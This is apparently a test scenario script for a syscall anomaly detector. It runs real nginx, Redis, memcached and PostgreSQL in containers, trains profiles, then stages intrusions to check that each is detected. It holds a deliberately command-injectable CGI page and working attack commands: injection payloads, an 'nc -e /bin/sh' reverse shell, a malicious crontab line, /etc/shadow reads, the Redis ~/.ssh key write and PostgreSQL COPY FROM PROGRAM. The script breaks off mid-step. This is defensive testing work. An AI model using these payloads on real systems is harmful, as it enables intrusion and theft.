#!/bin/sh
# kernels: none
# needs: services
# timeout: 1800
# Until the call sets (2026-12-03, afternoon), normal novelty still crossed
# the learnt thresholds after calibration in some runs (below).
# Runs on Debian's 6.1, 2026-12-02, evening (scores are combo points):
# - Before programs carried their names, with calibration's floor at two
#   windows (24), four runs: web learnt 32 to 47 and its nginx event loop
#   (accept4, recvfrom, epoll_wait in another order) raised 1 to 4 false
#   alerts scoring 32 to 48 in every run; in one, memcached's main thread
#   (clock_gettime, epoll_wait) raised one of 84 over its learnt 77. The
#   injected programs (busybox applets run without exec) scored 48 to 228:
#   the secret read's cat 48, no more than nginx's noise.
# - With programs named after exec and by task_rename (cat then scored
#   112, id 228, nc 144, cp 168) and the floor at one novelty event (72),
#   two runs passed: every service enforced by itself in 69-81 s, web
#   learnt 72, cache 112, side 72, no alert in ordinary work, all six
#   intrusions detected by their own processes.
# 2026-12-03, with Redis as a fourth container (kv):
# - r40h, floor 72: every service enforced by itself (web 150 s, kv 169 s,
#   cache 227 s); all eight intrusions detected; three false alerts scoring
#   exactly the floor, 72 (6 windows and 6 bags: nginx's 'getsockopt close
#   write close epoll_wait', memcached's item crawler).
# - r40i, with the floor at 73 for a trial (withdrawn: 25-httpd-attack's
#   reverse shell to a closed port scores 72): web, cache and kv enforced
#   in 84 / 170 / 155 s; all eight intrusions detected (peaks 84 to 240);
#   web learnt 73 and its nginx raised five false alerts of 84 (6 windows,
#   9 bags: 'close write close epoll_wait'), kv learnt 107 and raised one
#   of 108. Web's training (41 s) and calibration (43 s) had not met that
#   behaviour, which came back about once a minute.
# - r40j, a trial with 'train --until-stable --for 60' (growth flat for a
#   minute, not 10 s), beside a full CI run: web trained 239 s, calibrated
#   236 s, learnt 73 and raised no alert in 360 s of ordinary work; cache
#   and kv did not converge in 600 s (new entries kept coming); every
#   intrusion detected.
# - r40k, floor 72, '--for 30': web trained 135 s and calibrated 132 s, then raised
#   one false alert of 80 ('recvfrom close epoll_wait'); cache enforced at
#   400 s (learnt 82), kv at the 600 s limit; every intrusion detected.
# - r40l, floor 72, guest clock on the TSC (tsc=reliable, so that the
#   vDSO answers clock_gettime and gettimeofday without a system call, as
#   on most hosts): worse, web 13 false alerts (72 to 76), kv 2 (80, 88).
#   The emulated clock's system calls are not what makes the noise. (The
#   run was stopped as the intrusions began, to spare a CI run beside it.)
# - r40m and r40n, a trial with calibration lasting at least 120 checks
#   (two minutes, not 10), each beside a full CI run: r40m passed (web,
#   cache, kv, side enforcing at 234 / 164 / 239 / 164 s, learnt 72 / 97 /
#   102 / 72, no false alert, every intrusion detected); r40n did not: kv
#   learnt 77 and its redis-server raised false alerts of 84 (max 100:
#   'futex gettimeofday gettimeofday clock_gettime', 'futex epoll_ctl
#   close read epoll_ctl close'), web learnt 72 and raised none. Not kept:
#   longer calibration alone does not separate them, and it would lengthen
#   every scenario that trains until stable.
# Normal novelty after calibration scored 72 to 108 in these runs. The
# quietest intrusion, Redis writing its dump to ~/.ssh (no new program,
# only redis-server's own calls), opened alerts scoring 80 to 120 in r40n
# and the 'make check-services' run: the same range, so a higher floor
# on the frame score would trade these false alerts for missed attacks.
# So far nginx's event loop (the order of accept4, recvfrom, close, write
# and epoll_wait around closing connections) keeps making windows training
# never saw, unless growth stays flat for a minute, which Redis and
# memcached did not reach in 10 minutes.
# 2026-12-03, afternoon: the call sets (a call its program never made is an
# alert, whatever the score: docs/engine.md, "Call sets") and, with them,
# calibration's floor at two novelty events (144), both chosen before the
# runs below:
# - r40o: web, cache, kv, side enforcing after 187 / 201 / 268 / 82 s
#   (windows 46,638 / 131,109 / 425,131 / 1,425; entries 541 / 295 / 605 /
#   72), all learnt 144 (the floor); no alert in 265 s of ordinary work;
#   all eight intrusions detected: web 2, 2, 4, 6 alerts, the injected
#   programs by the call sets from their first window (id, cat, nc, sh,
#   cp, ...); cache 8 and 9; kv 2 (the SAVE into ~/.ssh: redis-server's
#   first alert scored 124, under the floor, raised by a call it never
#   made) and 57.
# - r40p, beside two other guests: web, cache, kv, side enforcing after
#   192 / 247 / 403 / 82 s (windows 34,592 / 145,960 / 527,763 / 1,408;
#   entries 536 / 297 / 613 / 72), all learnt 144; no alert in 402 s of
#   ordinary work; all eight intrusions detected (web 2, 2, 4, 6; cache 7,
#   10; kv 2, 91).
# - r40q, with a thread's call-set row taken from its process's name (the
#   group leader's comm), beside a CI run: web, cache, kv, side enforcing
#   after 93 / 161 / 219 / 80 s (windows 49,512 / 271,350 / 769,698 /
#   1,425; entries 530 / 286 / 556 / 72), all learnt 144; no alert in
#   ordinary work; all eight intrusions detected (web 2, 2, 4, 6; cache 8,
#   10; kv 2, 80).
# - r40r, the services step of a full CI run (rows still per thread name):
#   web, cache, kv, side enforcing after 130 / 76 / 239 / 81 s, all learnt
#   144; no alert in ordinary work; all eight intrusions detected; but
#   during web's secret read (about 8 minutes into its load) Redis's main
#   thread raised a false new-call alert (max score 88): an mmap its
#   training and calibration had not seen. Since then memory-management
#   calls and futex are never new (docs/engine.md, "Call sets"): chosen
#   after this run, judged on the runs below.
# - r40s, rows per process, memory calls exempt, beside that CI run: web,
#   cache, kv, side enforcing after 220 / 249 / 142 / 77 s (windows 101,540
#   / 292,721 / 480,737 / 1,425; entries 536 / 282 / 529 / 72), all learnt
#   144; no alert in ordinary work; all eight intrusions detected (web 2,
#   2, 4, 6; cache 8, 11; kv 2, 79: the SAVE by a getcwd redis-server never
#   made).
# - r40t and r40u, the same, one beside a CI run: enforcing after web 133 /
#   174, cache 189 / 165, kv 227 / 285, side 87 / 79 s (windows 27,875 /
#   79,378, 121,923 / 214,091, 291,209 / 689,485, 1,425 / 1,425), all
#   learnt 144 (kv lfc 13 in r40t); no alert in ordinary work; all eight
#   intrusions detected in both (kv's SAVE again by getcwd, its first
#   alert scoring 12 and 52).
# Run it by hand ('make check-services' runs it in its own guest):
#   tests/vm/run-guest.sh --kernel debian --scenario tests/scenarios/40-services.sh
# PostgreSQL runs only when asked (SYSANOM_SERVICES_PG=1 in run-guest.sh's
# environment): under pgbench in this emulated guest it makes about 400
# windows a second and, 7 minutes in, still learns 6 new entries per 1000
# windows (its autovacuum workers, lock waits and checkpoints: see
# tests/traces/README.md), so it does not converge in the time given:
#   SYSANOM_SERVICES_PG=1 tests/vm/run-guest.sh --kernel debian \
#	--scenario tests/scenarios/40-services.sh
# Real services from Debian's packages, each in its own runc container (its
# own cgroup), driven by their real clients from outside the containers'
# cgroups (in each container's network namespace only):
#   web    nginx + fcgiwrap + a shell CGI search page with a command-injection
#          flaw (the page hands the query to the shell); clients wrk (one
#          keep-alive connection) and curl (a connection per request); the
#          attacker's is curl
#   pg     PostgreSQL 15; client pgbench
#   cache  memcached; client memcaslap (libmemcached-tools' memaslap)
#   kv     Redis 7 as a cache (no persistence), configured as old images
#          were (CONFIG SET may move the dump file, MODULE LOAD is on): the
#          flaws the classic attacks on exposed Redis servers use; client
#          redis-benchmark, the attacker's redis-cli
#   side   a quiet busybox sidecar: sleeps, children, signals to itself
# Each is trained with plain 'sysanomctl train --until-stable NAME' (no other
# option, no 'sysanomctl set') until its mode is enforcing; then it works as
# usual for at least as long as its training took with no alert; then
# intrusions of the kinds attackers use must each raise an alert in their
# container only, and the sidecar never alerts. Each step says which
# service failed and why; a service that does not converge in TRAIN_MAX fails
# the scenario, which then goes on with a forced 'enforce' for diagnosis only.
# A SUMMARY of the measurements ends the output.
# shellcheck disable=SC2016 # '$' in single quotes is for the inner shells
# shellcheck source-path=SCRIPTDIR source=../vm/guest-lib.sh
. /lib/sysanom/guest-lib.sh

[ "$HAVE_SERVICES" = 1 ] || fail "the initramfs has no services (run-guest.sh adds them for '# needs: services')"

PG=/usr/lib/postgresql/15/bin
TRAIN_MAX=600	# seconds they may take to enforce (training, then calibration), in parallel
WEB_PORT=8080 PG_PORT=5432 MC_PORT=11211 KV_PORT=6379 RSH_PORT=4444
. /etc/sysanom-test.conf
if [ "${SERVICES_PG:-0}" = 1 ]; then SERVICES="web pg cache kv side"; else SERVICES="web cache kv side"; fi
has() { case " $SERVICES " in *" $1 "*) return 0 ;; esac; return 1; }
T0=$(date +%s)
elapsed() { echo $(($(date +%s) - T0)); }
problems="" summary=""
# One line of the summary printed at the end.
result() { summary="$summary
  $*"; }
problem() { echo "PROBLEM: $*"; problems="$problems
  $*"; }

# --- containers --------------------------------------------------------------
# A copy of /bundle-svc for container $1 in cgroup /svc-$1, running as uid
# $2, gid $3, with its own writable copy of the guest's /etc. Prints the
# bundle directory; the caller writes rootfs/workload.sh.
svc_bundle() {
	b=/tmp/bundle-$1
	rm -rf "$b"
	cp -a /bundle-svc "$b" || return 1
	cp -a /etc/. "$b/rootfs/etc/" || return 1
	sed -i -e "s|@CGROUP@|/svc-$1|" -e "s|\"@UID@\"|$2|" -e "s|\"@GID@\"|$3|" "$b/config.json"
	echo "$b"
}
svc_start() {
	runc run --no-pivot -d --bundle "/tmp/bundle-$1" "$1" < /dev/null > "/tmp/$1.out" 2>&1 ||
		fail "$1: runc run failed: $(cat "/tmp/$1.out")"
}
ct_pid() { runc state "$1" 2>/dev/null | sed -n 's/.*"pid": *\([0-9]*\).*/\1/p'; }
# Run a client in container $1's network namespace (not in its cgroup).
in_net() {
	_c=$1; shift
	nsenter --net="/proc/$(ct_pid "$_c")/ns/net" "$@"
}
# Wait up to $1 seconds for command $2... to succeed.
wait_for() {
	_n=$1; shift
	_i=0
	until "$@" > /dev/null 2>&1; do
		_i=$((_i + 1))
		[ "$_i" -lt "$_n" ] || return 1
		sleep 1
	done
}
alerts_of() { status_entry "/svc-$1" | json_num alerts; }
last_seq() { sysanomctl alerts --json | tail -n1 | json_num seq; }

load_module

# web: nginx serves static pages and hands /cgi-bin/ to fcgiwrap, which runs
# the search page; everything as www-data (uid 33), as in a rootless image.
b=$(svc_bundle web 33 33) || fail "web: no bundle"
r=$b/rootfs
mkdir -p "$r/var/www/html" "$r/var/www/cgi-bin" "$r/var/www/data" "$r/var/lib/nginx" \
	"$r/var/log/nginx" "$r/etc/webapp"
printf 'apple pie\nbanana bread\ncherry tart\nplum cake\nlemon curd\n' > "$r/var/www/data/recipes.txt"
echo '<h1>recipes</h1><form action="/cgi-bin/search">' > "$r/var/www/html/index.html"
echo 'body { font-family: serif; }' > "$r/var/www/html/style.css"
# The application's secret: the kind of file a web shell reads first.
echo 'DB_PASSWORD=s3cr3t-web-app-password' > "$r/etc/webapp/secret.conf"
echo 'root:$6$rootsecret$hash:19000:0:99999:7:::' > "$r/etc/shadow"
chmod 0600 "$r/etc/shadow"
cat > "$r/var/www/cgi-bin/search" <<'CGI'
#!/bin/sh
# Recipe search. The flaw: the decoded query goes through eval.
echo "Content-Type: text/plain"
echo
q=$(printf '%s' "${QUERY_STRING#q=}" | sed 's/+/ /g; s/%\([0-9A-Fa-f][0-9A-Fa-f]\)/\\x\1/g')
q=$(printf '%b' "$q")
eval "grep -i $q /var/www/data/recipes.txt"
CGI
chmod 0755 "$r/var/www/cgi-bin/search"
cat > "$r/etc/nginx/nginx.conf" <<NGINX
worker_processes 1;
pid /run/nginx.pid;
error_log /var/log/nginx/error.log;
events { worker_connections 64; }
http {
	include /etc/nginx/mime.types;
	access_log /var/log/nginx/access.log;
	server {
		listen 127.0.0.1:$WEB_PORT;
		root /var/www/html;
		location /cgi-bin/ {
			include /etc/nginx/fastcgi_params;
			fastcgi_param SCRIPT_FILENAME /var/www\$fastcgi_script_name;
			fastcgi_pass unix:/run/fcgiwrap.sock;
		}
	}
}
NGINX
chown -R 33:33 "$r/var/www" "$r/var/lib/nginx" "$r/var/log/nginx" "$r/run" "$r/etc/webapp"
cat > "$r/workload.sh" <<'W'
/usr/sbin/fcgiwrap -c 2 -s unix:/run/fcgiwrap.sock &
exec /usr/sbin/nginx -g 'daemon off;'
W
svc_start web

if has pg; then
# pg: initdb at the first start, then the server, as postgres (uid 101).
# Checkpoints and autovacuum run every minute (not 5): periodic work must
# occur during training for the profile to know it.
b=$(svc_bundle pg 101 101) || fail "pg: no bundle"
r=$b/rootfs
mkdir -p "$r/var/lib/postgresql" "$r/run/postgresql"
chown -R 101:101 "$r/var/lib/postgresql" "$r/run/postgresql"
cat > "$r/workload.sh" <<W
export TZ=UTC LANG=C
D=/var/lib/postgresql/15/main
if [ ! -f \$D/PG_VERSION ]; then
	$PG/initdb -D \$D -U postgres --auth=trust -E UTF8 --locale=C --no-sync > /tmp/initdb.log 2>&1 ||
		{ cat /tmp/initdb.log; exit 1; }
fi
exec $PG/postgres -D \$D -c listen_addresses=127.0.0.1 -c port=$PG_PORT \\
	-c unix_socket_directories=/run/postgresql -c shared_buffers=16MB -c max_connections=20 \\
	-c fsync=off -c synchronous_commit=off -c full_page_writes=off -c jit=off \\
	-c checkpoint_timeout=60s -c autovacuum_naptime=60s -c log_min_messages=warning
W
svc_start pg
fi

# cache: memcached as memcache (uid 102).
b=$(svc_bundle cache 102 102) || fail "cache: no bundle"
r=$b/rootfs
echo 'root:$6$cachesecret$hash:19000:0:99999:7:::' > "$r/etc/shadow"
chmod 0600 "$r/etc/shadow"
echo "exec /usr/bin/memcached -l 127.0.0.1 -p $MC_PORT -U 0 -m 32 -t 2 -c 256" > "$r/workload.sh"
svc_start cache

# kv: Redis as redis (uid 103), its dump directory its home.
b=$(svc_bundle kv 103 103) || fail "kv: no bundle"
r=$b/rootfs
mkdir -p "$r/var/lib/redis/.ssh"
chown -R 103:103 "$r/var/lib/redis"
echo "exec /usr/bin/redis-server --bind 127.0.0.1 --port $KV_PORT --dir /var/lib/redis" \
	"--save '' --appendonly no --maxmemory 32mb --maxmemory-policy allkeys-lru" \
	"--enable-protected-configs yes --enable-module-command yes" > "$r/workload.sh"
svc_start kv

# side: the quiet sidecar, busybox only (the /bundle template).
ln -sf busybox /bundle/rootfs/bin/kill
run start_container side svc-side 'n=0
trap "n=\$((n + 1))" USR1
while :; do sleep 1 & wait; kill -USR1 $$; echo "$n" > /tmp/beat; done'

# --- the services answer their clients -----------------------------------------
web_get() { in_net web curl -sS --max-time 60 "http://127.0.0.1:$WEB_PORT$1"; }
kv_cli() { in_net kv redis-cli -h 127.0.0.1 -p "$KV_PORT" "$@"; }
pg_sql() { in_net pg "$PG/psql" -h 127.0.0.1 -p "$PG_PORT" -U postgres -d postgres -XAtq -c "$1"; }
# shellcheck disable=SC2317 # called through wait_for
web_ok() { web_get '/cgi-bin/search?q=apple' | grep -q 'apple pie'; }
wait_for 60 web_ok ||
	fail "web: the search page does not answer: $(web_get '/cgi-bin/search?q=apple' 2>&1; tail -n 5 /tmp/bundle-web/rootfs/var/log/nginx/error.log; cat /tmp/web.out)"
note "web: search page answers ($(elapsed)s)"
wait_for 60 in_net cache memcstat --servers="127.0.0.1:$MC_PORT" ||
	fail "cache: memcached does not answer: $(cat /tmp/cache.out)"
note "cache: memcached answers ($(elapsed)s)"
wait_for 60 kv_cli ping || fail "kv: Redis does not answer: $(cat /tmp/kv.out)"
note "kv: Redis answers ($(elapsed)s)"
has pg && { wait_for 300 pg_sql 'select 1' ||
	fail "pg: PostgreSQL does not answer: $(pg_sql 'select 1' 2>&1; cat /tmp/pg.out; tail -n 20 /tmp/bundle-pg/rootfs/tmp/initdb.log 2> /dev/null)"
note "pg: PostgreSQL answers ($(elapsed)s)"
in_net pg "$PG/pgbench" -h 127.0.0.1 -p "$PG_PORT" -U postgres -i -s 1 -q postgres > /tmp/pgbench-init.log 2>&1 ||
	fail "pg: pgbench -i failed: $(tail -n 5 /tmp/pgbench-init.log)"
note "pg: pgbench tables ready ($(elapsed)s)"; }
note "versions: $(/usr/sbin/nginx -v 2>&1 | sed 's/.*: //'), fcgiwrap, $(has pg && "$PG/postgres" -V), $(/usr/bin/memcached -V), $(/usr/bin/redis-server -v | cut -d' ' -f1-3), $(curl -V | head -n1 | cut -d' ' -f1-2)"

# --- clients: ordinary work, from now to the end --------------------------------
# Each loop counts its rounds in /tmp/NAME.rounds; a round's failure is
# counted in /tmp/NAME.errors.
# wrk keeps one connection open and walks the site's pages in turn.
cat > /tmp/web.lua <<'LUA'
local paths = { "/", "/style.css", "/cgi-bin/search?q=apple", "/cgi-bin/search?q=cake",
	"/cgi-bin/search?q=lemon+curd", "/nothing-here" }
local i = 0
request = function()
	i = i % #paths + 1
	return wrk.format("GET", paths[i])
end
LUA
cat > /tmp/client-web.sh <<C
i=0 e=0
while :; do
	wrk -t 1 -c 1 -d 20s --timeout 60s -s /tmp/web.lua http://127.0.0.1:$WEB_PORT/ > /tmp/wrk.log 2>&1 || e=\$((e + 1))
	i=\$((i + 1)); echo \$i > /tmp/web.rounds; echo \$e > /tmp/web.errors
	sed -n 's/^ *\([0-9]*\) requests in .*/\1/p' /tmp/wrk.log >> /tmp/web.reqs
	# A browser's kind of request too: one connection each, closed.
	for q in apple cherry 'lemon+curd'; do
		curl -sS --max-time 60 "http://127.0.0.1:$WEB_PORT/cgi-bin/search?q=\$q" > /dev/null || e=\$((e + 1))
	done
	curl -sS --max-time 60 "http://127.0.0.1:$WEB_PORT/" > /dev/null || e=\$((e + 1))
	echo \$e > /tmp/web.errors
done
C
cat > /tmp/client-pg.sh <<C
i=0 e=0
while :; do
	$PG/pgbench -h 127.0.0.1 -p $PG_PORT -U postgres -n -c 2 -j 1 -T 20 postgres > /tmp/pgbench.log 2>&1 || e=\$((e + 1))
	i=\$((i + 1)); echo \$i > /tmp/pg.rounds; echo \$e > /tmp/pg.errors
	sed -n 's/^number of transactions actually processed: \([0-9]*\).*/\1/p' /tmp/pgbench.log >> /tmp/pg.xacts
done
C
cat > /tmp/client-cache.sh <<C
i=0 e=0
while :; do
	memcaslap -s 127.0.0.1:$MC_PORT -T 1 -c 4 -t 20s > /tmp/memcaslap.log 2>&1 || e=\$((e + 1))
	i=\$((i + 1)); echo \$i > /tmp/cache.rounds; echo \$e > /tmp/cache.errors
	sed -n 's/^Run time: .* Ops: \([0-9]*\).*/\1/p' /tmp/memcaslap.log >> /tmp/cache.ops
done
C
# redis-benchmark's usual commands on 10000 random keys; lists pushed and
# popped alike, so they do not grow.
cat > /tmp/client-kv.sh <<C
i=0 e=0
while :; do
	redis-benchmark -h 127.0.0.1 -p $KV_PORT -c 4 -n 4000 -r 10000 -q \
		-t set,get,incr,lpush,rpop,hset,mset > /tmp/redis-benchmark.log 2>&1 || e=\$((e + 1))
	i=\$((i + 1)); echo \$i > /tmp/kv.rounds; echo \$e > /tmp/kv.errors
	echo \$((4000 * \$(tr '\\r' '\\n' < /tmp/redis-benchmark.log | grep -c 'requests per second'))) >> /tmp/kv.ops
done
C
clients=""
for s in web pg cache kv; do
	has "$s" || continue
	in_net "$s" sh "/tmp/client-$s.sh" > /dev/null 2>&1 &
	clients="$clients $!"
done
# shellcheck disable=SC2086 # a list of pids
trap 'kill $clients 2> /dev/null' EXIT
sum() { [ -f "$1" ] && awk '{ s += $1 } END { print s + 0 }' "$1" || echo 0; }
work_done() {
	echo "web $(sum /tmp/web.reqs) requests ($(cat /tmp/web.errors 2> /dev/null || echo 0) runs failed)," \
		"pg $(sum /tmp/pg.xacts) transactions ($(cat /tmp/pg.errors 2> /dev/null || echo 0) runs failed)," \
		"cache $(sum /tmp/cache.ops) ops ($(cat /tmp/cache.errors 2> /dev/null || echo 0) runs failed)," \
		"kv $(sum /tmp/kv.ops) requests ($(cat /tmp/kv.errors 2> /dev/null || echo 0) runs failed)"
}
sleep 5

# --- training, all in parallel ----------------------------------------------------
# Plain 'train --until-stable': the module alone decides when each is done.
for s in $SERVICES; do run sysanomctl train --until-stable "$s"; done
tt=$(date +%s)
pending=$SERVICES
tmax=0 next=0 forced=""
while [ -n "$pending" ]; do
	now=$(($(date +%s) - tt))
	still=""
	for s in $pending; do
		e=$(status_entry "/svc-$s")
		if echo "$e" | grep -q '"mode":"enforcing"'; then
			eval "train_$s=$now"
			tmax=$now
			note "$s: enforcing after ${now}s of training, windows $(echo "$e" | json_num windows), entries $(echo "$e" | json_num profile_entries)"
			cal=$(eval "echo \${cal_$s:-}")
			# (the thresholds, when the module reports what it learnt)
			result "$s: trained until enforcing in ${now}s${cal:+ (calibrating from ${cal}s)}, windows $(echo "$e" | json_num windows), entries $(echo "$e" | json_num profile_entries), syscalls $(echo "$e" | json_num syscalls) $(echo "$e" | tr ',' '\n' | grep -E '^"(calibration|lfc_threshold|epoch_threshold|combo_threshold)":' | tr -d '"' | tr '\n' ' ')"
		else
			# The module may calibrate its thresholds between the two.
			cal=$(eval "echo \${cal_$s:-}")
			if [ -z "$cal" ] && echo "$e" | grep -q '"mode":"calibrating"'; then
				eval "cal_$s=$now"
				note "$s: calibrating after ${now}s of training, windows $(echo "$e" | json_num windows), entries $(echo "$e" | json_num profile_entries)"
			fi
			still="$still $s"
		fi
	done
	pending=$still
	[ -z "$pending" ] && break
	if [ "$now" -ge "$TRAIN_MAX" ]; then
		run sysanomctl status
		for s in $pending; do
			note "$s: $(status_entry "/svc-$s")"
			e=$(status_entry "/svc-$s")
			result "$s: NOT converged in ${TRAIN_MAX}s, windows $(echo "$e" | json_num windows), entries $(echo "$e" | json_num profile_entries), syscalls $(echo "$e" | json_num syscalls), slope $(echo "$e" | sed -n 's/.*"growth_slope":\([0-9.]*\).*/\1/p')"
			problem "$s: did not converge in ${TRAIN_MAX}s (still $(status_entry "/svc-$s" | sed -n 's/.*"mode":"\([a-z]*\)".*/\1/p'))"
		done
		# The scenario has failed; go on with the profiles as they are (a
		# forced 'enforce', for diagnosis only) to show what they detect.
		for s in $pending; do run sysanomctl enforce "$s"; done
		forced=$pending
		tmax=$now
		break
	fi
	if [ "$now" -ge "$next" ]; then
		note "${now}s: $(work_done)"
		for s in $pending; do
			note "  $s training: $(status_entry "/svc-$s" | tr ',' '\n' | grep -E '"(syscalls|windows|profile_entries|growth_slope)"' | tr '\n' ' ')"
		done
		next=$((next + 30))
	fi
	sleep 3
done
run sysanomctl status

# --- ordinary work while enforcing: no alert ----------------------------------
# Each service has been enforcing for (now - tt - train_s); go on until all
# have worked at least as long as their training took.
wait_s=$((tt + 2 * tmax - $(date +%s)))
if [ -n "$forced" ]; then
	# Diagnosis only: keep within the time budget.
	wait_s=120
	note "NOT CONVERGED:$forced; forced to enforce for diagnosis: what follows does not count as a pass"
fi
note "all enforcing after ${tmax}s; ordinary work for ${wait_s}s more ($(work_done))"
[ "$wait_s" -le 0 ] || sleep "$wait_s"
note "ordinary work done: $(work_done)"
note "guest memory (MiB): $(free -m | awk '/^Mem:/ { print "total " $2 ", used " $3 ", free " $4 }')"
for s in web pg cache kv; do
	has "$s" || continue
	kill -0 "$(ct_pid "$s")" 2> /dev/null || fail "$s: the container died: $(cat "/tmp/$s.out")"
done
web_get '/cgi-bin/search?q=cherry' | grep -q 'cherry tart' || fail "web: the search page stopped answering"
! has pg || [ "$(pg_sql 'select count(*) from pgbench_accounts')" = 100000 ] || fail "pg: PostgreSQL stopped answering"
[ "$(sum /tmp/web.reqs)" -gt 0 ] || fail "web: wrk made no request: $(tail -n 5 /tmp/wrk.log)"
! has pg || [ "$(sum /tmp/pg.xacts)" -gt 0 ] || fail "pg: pgbench processed no transaction: $(tail -n 5 /tmp/pgbench.log)"
[ "$(sum /tmp/cache.ops)" -gt 0 ] || fail "cache: memcaslap ran no operation: $(tail -n 5 /tmp/memcaslap.log)"
[ "$(kv_cli ping)" = PONG ] || fail "kv: Redis stopped answering"
[ "$(sum /tmp/kv.ops)" -gt 0 ] || fail "kv: redis-benchmark made no request: $(tail -c 300 /tmp/redis-benchmark.log)"
for s in $SERVICES; do
	a=$(alerts_of "$s")
	result "$s: $a alert(s) in ordinary work"
	if [ "$a" != 0 ]; then
		sysanomctl alerts | grep "/svc-$s " | tail -n 3
		problem "$s raised $a alert(s) while doing its ordinary work"
	fi
done

# --- intrusions -----------------------------------------------------------------------
# intrusion VICTIM WHAT: the caller has just run it; at least one new alert
# must name VICTIM's cgroup, and no other container may have new alerts.
snapshot() {
	seq0=$(last_seq); seq0=${seq0:-0}
	for s in $SERVICES; do eval "before_$s=$(alerts_of "$s")"; done
}
judge() {
	sleep 2
	v=$1 what=$2
	eval "b=\$before_$v"
	a=$(alerts_of "$v")
	note "$v: $what: alerts $b -> $a"
	if [ "$a" -gt "$b" ]; then
		result "$v: $what: DETECTED ($((a - b)) alert(s))"
	else
		result "$v: $what: not detected"
		problem "$v: $what raised no alert"
	fi
	for s in $SERVICES; do
		[ "$s" = "$v" ] && continue
		eval "b=\$before_$s"
		a=$(alerts_of "$s")
		[ "$a" = "$b" ] || problem "$s: $a - $b alert(s) during $v's $what (not its intrusion)"
	done
	sysanomctl alerts --json | awk -v s="$seq0" -F'"seq":' '{ split($2, f, ","); if (f[1] + 0 > s) print }' > /tmp/new-alerts
	if grep -v "\"cgroup\":\"/svc-$v\"" /tmp/new-alerts | grep -q .; then
		problem "$v: $what: an alert names another cgroup: $(grep -v "\"cgroup\":\"/svc-$v\"" /tmp/new-alerts | head -n 1)"
	fi
	# Which processes alerted, and how high: the intrusion's own, or the
	# server's (a server thread may alert on the attacker's request too).
	sed -n 's/.*"comm":"\([^"]*\)".*"score":\([0-9]*\),"max_score":\([0-9]*\),"windows":\([0-9]*\),"syscalls":\[\([^]]*\)\].*/\1 score \2 max \3, \4 windows, first: \5/p' /tmp/new-alerts |
		tr -d '"' | head -n 12 | sed 's/^/    alert: /'
}
# The attacker's side of a request to the search page: curl encodes the
# query; '#' comments out the file name the page appends.
inject() { in_net web curl -sS --max-time 60 -G --data-urlencode "q=$1" "http://127.0.0.1:$WEB_PORT/cgi-bin/search"; }

snapshot
inject 'x /dev/null; id #' > /tmp/i.out 2>&1
grep -q 'uid=33' /tmp/i.out || fail "web: the command injection did not run id: $(head -c 300 /tmp/i.out)"
judge web "command injected through the CGI page (id)"

snapshot
inject 'x /dev/null; cat /etc/webapp/secret.conf #' > /tmp/i.out 2>&1
grep -q 's3cr3t-web-app-password' /tmp/i.out || fail "web: the secret read did not return the secret: $(head -c 300 /tmp/i.out)"
judge web "secret read through the CGI page"

snapshot
# The attacker listens (outside the container, in its network namespace) and
# sends commands to the shell that connects back.
(printf 'id\nexit\n'; sleep 8) | in_net web nc -l -p "$RSH_PORT" > /tmp/rsh.out 2>&1 &
lpid=$!
sleep 1
inject "x /dev/null; nc 127.0.0.1 $RSH_PORT -e /bin/sh #" > /tmp/i.out 2>&1
wait "$lpid"
grep -q 'uid=33' /tmp/rsh.out || fail "web: the reverse shell did not connect back: $(head -c 300 /tmp/rsh.out) $(head -c 300 /tmp/i.out)"
judge web "reverse shell (nc -e /bin/sh to a listener)"

snapshot
# (busybox runs as the applet its file's name says, or as 'busybox APPLET')
inject 'x /dev/null; mkdir /tmp/.x; cp /bin/busybox /tmp/.x/busybox; chmod 755 /tmp/.x/busybox; /tmp/.x/busybox uname -a #' > /tmp/i.out 2>&1
{ grep -q Linux /tmp/i.out && [ -x /tmp/bundle-web/rootfs/tmp/.x/busybox ]; } ||
	fail "web: the dropped binary did not run: $(head -c 300 /tmp/i.out)"
judge web "binary dropped in /tmp and run"

if has pg; then
snapshot
pg_sql "create table cmd(line text); copy cmd from program 'id'; select line from cmd" > /tmp/i.out 2>&1
grep -q 'uid=101' /tmp/i.out || fail "pg: COPY FROM PROGRAM did not run id: $(head -c 300 /tmp/i.out)"
judge pg "code run by the server (COPY FROM PROGRAM 'id')"

snapshot
pg_sql "copy (select 'ssh-ed25519 AAAAC3Nza attacker') to '/tmp/.authorized_keys'" > /tmp/i.out 2>&1
grep -q attacker /tmp/bundle-pg/rootfs/tmp/.authorized_keys 2> /dev/null ||
	fail "pg: COPY TO did not write the file: $(head -c 300 /tmp/i.out)"
judge pg "file written by the server (COPY TO '/tmp/.authorized_keys')"
fi

snapshot
runc exec --user 0:0 cache sh -c 'cat /etc/shadow' > /tmp/i.out 2>&1
grep -q 'cachesecret' /tmp/i.out || fail "cache: the attacker's shell did not read /etc/shadow: $(head -c 300 /tmp/i.out)"
judge cache "attacker's shell (runc exec) reads /etc/shadow"

snapshot
runc exec --user 0:0 cache sh -c 'mkdir /var/tmp/.m && cp /bin/busybox /var/tmp/.m/busybox && chmod 755 /var/tmp/.m/busybox && /var/tmp/.m/busybox id && echo "* * * * * root /var/tmp/.m/busybox nc 10.0.0.1 4444 -e /bin/sh" > /etc/crontab' > /tmp/i.out 2>&1
{ grep -q 'uid=0' /tmp/i.out && grep -q '/var/tmp/.m' /tmp/bundle-cache/rootfs/etc/crontab 2> /dev/null; } ||
	fail "cache: the dropped binary did not run: $(head -c 300 /tmp/i.out)"
judge cache "binary dropped and run, crontab written"

snapshot
# The classic attack on an exposed Redis: move the dump file into the
# service user's ~/.ssh and save a key of the attacker's in it.
{ kv_cli CONFIG SET dir /var/lib/redis/.ssh && kv_cli CONFIG SET dbfilename authorized_keys &&
	kv_cli SET x "$(printf '\n\nssh-ed25519 AAAAC3Nza attacker\n\n')" && kv_cli SAVE; } > /tmp/i.out 2>&1
grep -q attacker /tmp/bundle-kv/rootfs/var/lib/redis/.ssh/authorized_keys 2> /dev/null ||
	fail "kv: SAVE did not write ~/.ssh/authorized_keys: $(head -c 300 /tmp/i.out)"
judge kv "file written by the server (CONFIG SET dir ~/.ssh, SAVE)"

snapshot
# The rogue master: the attacker's "master" answers the replication
# handshake with a binary, which the server saves as its dump file; then
# MODULE LOAD (which Redis 7 refuses, the file not being executable).
(printf '+PONG\r\n+OK\r\n+OK\r\n+FULLRESYNC %s 1\r\n$%d\r\n' \
	0123456789abcdef0123456789abcdef01234567 "$(stat -c %s /bin/busybox)"
	cat /bin/busybox; sleep 6) | in_net kv nc -l -p "$RSH_PORT" > /tmp/master.in 2>&1 &
lpid=$!
sleep 1
